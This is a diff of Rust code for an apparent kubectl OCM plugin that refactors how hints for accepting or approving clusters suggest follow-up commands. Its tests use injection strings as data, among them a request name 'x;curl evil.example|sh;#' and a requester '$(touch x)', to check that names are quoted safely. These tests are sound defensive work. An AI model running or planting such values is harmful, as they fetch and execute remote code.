@@ -5,12 +5,36 @@ use ocm_core::accept::{Help, Options, Refusal};
 use ocm_core::csr::Settings;
 use ocm_core::shell::{option, shell};
 
-/// What to type, to accept or only to approve it.
-pub(crate) fn words(cluster: &str, help: &Help, approve_only: bool) -> String {
-    let command = match approve_only {
-        true => format!("kubectl ocm accept {cluster} --approve-only"),
-        false => format!("kubectl ocm accept {cluster}"),
-    };
+/// What was typed: what helps is typed besides it.
+pub(crate) struct Typed<'a> {
+    /// The options.
+    pub(crate) options: &'a Options,
+    /// Whether clusters are only approved.
+    pub(crate) approve_only: bool,
+}
+
+impl Typed<'_> {
+    /// The command that accepts a cluster, or only approves it, with these options.
+    pub(crate) fn command(&self, cluster: &str) -> String {
+        let only = if self.approve_only { " --approve-only" } else { "" };
+        command(&format!("{cluster}{only}"), self.options)
+    }
+
+    /// The same with something changed.
+    fn with(&self, cluster: &str, change: impl FnOnce(&mut Options)) -> String {
+        let mut options = self.options.clone();
+        change(&mut options);
+        Typed { options: &options, ..*self }.command(cluster)
+    }
+
+    /// What to type.
+    pub(crate) fn words(&self, cluster: &str, help: &Help) -> String {
+        words(self, cluster, help)
+    }
+}
+
+fn words(typed: &Typed<'_>, cluster: &str, help: &Help) -> String {
+    let approve_only = typed.approve_only;
     match help {
         Help::Agent if approve_only => "its agent registers it: look at the agent on the cluster".to_owned(),
         Help::NameKey(keys) if keys.is_empty() => "none of the keys can be read".to_owned(),
@@ -29,20 +53,27 @@ pub(crate) fn words(cluster: &str, help: &Help, approve_only: bool) -> String {
             };
             format!(
                 "the name is held with {holds}, and {asks} asks for it; if the cluster was rebuilt or its agent lost its \
-                 key: {command} --replace --fingerprint {key}"
+                 key: {}",
+                typed.with(cluster, |options| {
+                    (options.replace, options.fingerprint) = (true, Some(key.to_owned()));
+                })
             )
         }
         Help::ReuseName(until) => {
             let until = until.map(|until| format!(" until {}", day(until))).unwrap_or_default();
             format!(
-                "certificates of the former holder may be valid{until} and would work again; if you accept that: \
-                 {command} --reuse-name"
+                "certificates of the former holder may be valid{until} and would work again; if you accept that: {}",
+                typed.with(cluster, |options| options.reuse_name = true)
             )
         }
         Help::WithoutRequest => format!(
-            "wait for its request with --wait; if you know the cluster and it needs none: {command} --without-request"
+            "wait for its request with --wait; if you know the cluster and it needs none: {}",
+            typed.with(cluster, |options| options.without_request = true)
         ),
-        Help::AsRegistered => format!("if that is meant: {command} --as-registered"),
+        Help::Wait => "wait for its request with --wait".to_owned(),
+        Help::AsRegistered => {
+            format!("if that is meant: {}", typed.with(cluster, |options| options.as_registered = true))
+        }
         Help::ClusterSet(set) => format!("if clusters may choose this set, add {}", option("--cluster-set", set)),
         Help::Requester(user) => {
             format!("if {user:?} is to register clusters, add {}", option("--requester", user))
@@ -68,7 +99,7 @@ fn named(request: &str) -> String {
 }
 
 /// The command that accepts a cluster with these options.
-pub(crate) fn command(cluster: &str, options: &Options) -> String {
+fn command(cluster: &str, options: &Options) -> String {
     let Options { settings, fingerprint, replace, reuse_name, without_request, as_registered, cluster_sets, .. } =
         options;
     let mut line = format!("kubectl ocm accept {cluster}");
@@ -116,7 +147,8 @@ mod tests {
 
     #[test]
     fn names_that_strangers_choose_are_words_of_a_command_and_no_more() {
-        let words = |help: Help| words("c1", &help, false);
+        let options = Options::default();
+        let words = |help: Help| Typed { options: &options, approve_only: false }.words("c1", &help);
         let request = "x;curl evil.example|sh;#";
         let look = "look at it: kubectl get 'csr/x;curl evil.example|sh;#' -o yaml";
         assert_eq!(words(Help::Request(request.to_owned())), look);
@@ -126,6 +158,24 @@ mod tests {
         let user = |user: &str| words(Help::Requester(user.to_owned()));
         assert!(user("$(touch x)").ends_with(", add --requester '$(touch x)'"));
         assert!(user("--without-request").ends_with(", add --requester=--without-request"));
+    }
+
+    #[test]
+    fn what_helps_is_typed_besides_what_was_typed() {
+        let options =
+            Options { fingerprint: Some("ab".to_owned()), cluster_sets: vec!["prod".to_owned()], ..Options::default() };
+        let typed = |approve_only| Typed { options: &options, approve_only };
+        let line = |help: Help, approve_only| {
+            let words = typed(approve_only).words("c1", &help);
+            words.rsplit_once(": ").expect("a command").1.to_owned()
+        };
+        let reuse = "kubectl ocm accept c1 --reuse-name --fingerprint ab --cluster-set prod";
+        assert_eq!(line(Help::ReuseName(None), false), reuse);
+        let only = "kubectl ocm accept c1 --approve-only --reuse-name --fingerprint ab --cluster-set prod";
+        assert_eq!(line(Help::ReuseName(None), true), only);
+        let replace = Help::Replace { asks: vec!["cd".to_owned()], holds: vec!["ab".to_owned()] };
+        assert_eq!(line(replace, false), "kubectl ocm accept c1 --replace --fingerprint cd --cluster-set prod");
+        assert_eq!(typed(false).words("c1", &Help::Wait), "wait for its request with --wait");
     }
 
     #[test]
